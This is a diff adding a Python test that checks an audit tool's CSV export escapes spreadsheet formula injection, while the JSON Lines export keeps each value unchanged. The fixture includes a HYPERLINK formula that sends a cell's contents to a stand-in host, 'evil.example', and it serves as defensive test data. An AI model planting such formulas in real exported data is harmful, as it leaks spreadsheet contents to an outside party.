@@ -18,6 +18,7 @@ from retention.audit.leaves import record_leaf
 from retention.audit.merkle import verify_chunked_inclusion
 from retention.audit.prove import prove_record
 from retention.audit.recorder import TrailRecorder
+from retention.audit.report import RuleRun, render_csv, render_jsonl
 from retention.cli import Context, main
 from retention.errors import ExitCode
 from tests.support import make_config, plan_and_run
@@ -362,3 +363,28 @@ def test_export_times_are_utc(built: Trail) -> None:
         for name in ("run_started", "run_finished", "cutoff", "first_batch", "last_batch"):
             if row[name] is not None:
                 assert datetime.fromisoformat(row[name]).utcoffset() == timedelta(0)
+
+
+def test_csv_keeps_a_spreadsheet_from_running_a_text_as_a_formula() -> None:
+    """A hold's reason or an erasure's reference is typed or pasted by whoever asks, and an
+    entry after the last checkpoint by anyone who can write the trail: `export --format csv`
+    wrote `=HYPERLINK(…)` as it was, which a spreadsheet runs (and leaks the sheet through)."""
+    hostile = RuleRun(
+        run_id="=1+1",
+        run_started=None,
+        run_finished=None,
+        rule="-2+3",
+        policy='=HYPERLINK("https://evil.example/?"&A2,"open")',
+        erasure="+33 6 12 34 56 78",
+        hold_reason="@SUM(1)",
+        user="\tx",
+        host="db-1",
+    )
+    (row,) = csv.DictReader(io.StringIO(render_csv([hostile])))
+    assert (row["run_id"], row["rule"], row["erasure"]) == ("'=1+1", "'-2+3", "'+33 6 12 34 56 78")
+    assert row["policy"] == '\'=HYPERLINK("https://evil.example/?"&A2,"open")'
+    assert (row["hold_reason"], row["user"], row["host"]) == ("'@SUM(1)", "'\tx", "db-1")
+    assert row["done"] == "0"
+    # JSON Lines, a machine format no spreadsheet evaluates, keeps each text as it is.
+    (line,) = render_jsonl([hostile]).splitlines()
+    assert json.loads(line)["policy"] == hostile.policy
